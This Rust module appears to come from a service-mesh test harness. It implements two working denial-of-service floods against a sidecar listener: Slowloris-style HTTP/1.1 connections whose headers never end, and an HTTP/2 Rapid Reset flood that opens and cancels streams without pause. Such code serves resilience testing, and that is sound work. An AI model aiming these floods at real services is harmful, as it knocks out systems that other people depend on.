//! Floods of one listener of a sidecar, by a thread of its own that takes what processor time others leave: in truth whoever floods has a
//! machine of its own. It is ended when dropped.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::Svid;
use crate::frames::{self, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame};

/// What floods.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// A thousand connections whose heads never end: every other one sends a byte at a time, the rest stop in the middle.
    SlowHeads,
    /// HTTP/2 streams that are opened and reset at once, on so many connections, as quickly as they are taken.
    RapidResets(u64),
}

/// Where it goes.
#[derive(Debug, Clone)]
pub enum Way {
    /// To a workload's own sidecar.
    Own(SocketAddr),
    /// To a peer's sidecar, with an SVID that may call it, by this server name.
    Peer(SocketAddr, Svid, String),
}

/// A flood that runs.
#[derive(Debug)]
pub struct Running {
    counts: Arc<Counts>,
    ends: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Debug, Default)]
struct Counts {
    open: AtomicU64,
    opened: AtomicU64,
    resets: AtomicU64,
}

/// What a flood did so far.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Did {
    /// Connections that are open now.
    pub open: u64,
    pub opened: u64,
    /// Streams that were opened and reset.
    pub resets: u64,
}

impl Flood {
    /// How many connections it keeps open, or opens again when they are ended.
    pub fn connections(self) -> u64 {
        match self {
            Self::SlowHeads => 1000,
            Self::RapidResets(connections) => connections,
        }
    }

    fn alpn(self) -> &'static str {
        match self {
            Self::SlowHeads => "http/1.1",
            Self::RapidResets(_) => "h2",
        }
    }

    /// Begins it.
    pub fn start(self, way: Way) -> Running {
        let counts: Arc<Counts> = Arc::default();
        let ends: Arc<AtomicBool> = Arc::default();
        let (counted, told) = (Arc::clone(&counts), Arc::clone(&ends));
        let thread = std::thread::spawn(move || {
            // On Linux that of this thread alone.
            let _ = rustix::process::nice(19);
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build();
            runtime.expect("a runtime").block_on(async {
                let way = Arc::new(way);
                for number in 0..self.connections() {
                    let (way, counts) = (Arc::clone(&way), Arc::clone(&counted));
                    tokio::spawn(self.again_and_again(way, number, counts));
                }
                while !told.load(Ordering::SeqCst) {
                    tokio::time::sleep(PAUSE).await;
                }
            });
        });
        Running {
            counts,
            ends,
            thread: Some(thread),
        }
    }

    async fn again_and_again(self, way: Arc<Way>, number: u64, counts: Arc<Counts>) {
        loop {
            let opened = way.open(self.alpn()).await;
            if let Ok(stream) = opened {
                counts.opened.fetch_add(1, Ordering::SeqCst);
                counts.open.fetch_add(1, Ordering::SeqCst);
                // That it is ended is what is expected.
                let _ = match self {
                    Self::SlowHeads => slow_head(stream, number.is_multiple_of(2)).await,
                    Self::RapidResets(_) => rapid_resets(stream, &counts).await,
                };
                counts.open.fetch_sub(1, Ordering::SeqCst);
            } else {
                tokio::time::sleep(PAUSE).await;
            }
        }
    }
}

impl Running {
    pub fn did(&self) -> Did {
        Did {
            open: self.counts.open.load(Ordering::SeqCst),
            opened: self.counts.opened.load(Ordering::SeqCst),
            resets: self.counts.resets.load(Ordering::SeqCst),
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.ends.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            // A panic in there was printed.
            let _ = thread.join();
        }
    }
}

trait Io: AsyncRead + AsyncWrite + Send + Unpin {}
impl<S: AsyncRead + AsyncWrite + Send + Unpin> Io for S {}

impl Way {
    async fn open(&self, alpn: &str) -> io::Result<Box<dyn Io>> {
        Ok(match self {
            Self::Own(address) => Box::new(TcpStream::connect(address).await?),
            Self::Peer(address, svid, name) => Box::new(svid.connect(*address, name, alpn).await?),
        })
    }
}

async fn slow_head(mut stream: Box<dyn Io>, trickles: bool) -> io::Result<()> {
    stream
        .write_all(b"GET / HTTP/1.1\r\nHost: api.shop\r\nX-Slow: ")
        .await?;
    stream.flush().await?;
    let mut answer = [0; 256];
    loop {
        match tokio::time::timeout(BETWEEN_BYTES, stream.read(&mut answer)).await {
            Ok(Ok(0)) => return Ok(()),
            Ok(Ok(_)) => {}
            Ok(Err(error)) => return Err(error),
            Err(_) if trickles => {
                stream.write_all(b"a").await?;
                stream.flush().await?;
            }
            Err(_) => {}
        }
    }
}

/// Until the other side ends it.
async fn rapid_resets(stream: Box<dyn Io>, counts: &Counts) -> io::Result<()> {
    let head = frames::get("/", "api.shop");
    let (mut read, mut write) = tokio::io::split(stream);
    let pouring = async {
        write.write_all(&frames::opening()).await?;
        let (mut bytes, mut streams) = (Vec::new(), 0);
        // Stream numbers end at 2^31; it is ended long before.
        for stream in (1u32..1 << 31).step_by(2) {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
            streams += 1;
            if bytes.len() > AT_ONCE {
                write.write_all(&bytes).await?;
                write.flush().await?;
                bytes.clear();
                counts.resets.fetch_add(streams, Ordering::SeqCst);
                streams = 0;
                // The buffers of the kernel take much before this would ever wait.
                tokio::task::yield_now().await;
            }
        }
        io::Result::Ok(())
    };
    let reading = async {
        let mut buffer = vec![0; 16 * 1024];
        while read.read(&mut buffer).await? > 0 {}
        io::Result::Ok(())
    };
    tokio::select! {
        poured = pouring => poured,
        ended = reading => ended,
    }
}

/// RFC 9113 §7.
const CANCEL: u32 = 8;
const BETWEEN_BYTES: Duration = Duration::from_millis(100);
const PAUSE: Duration = Duration::from_millis(20);
const AT_ONCE: usize = 4 * 1024;
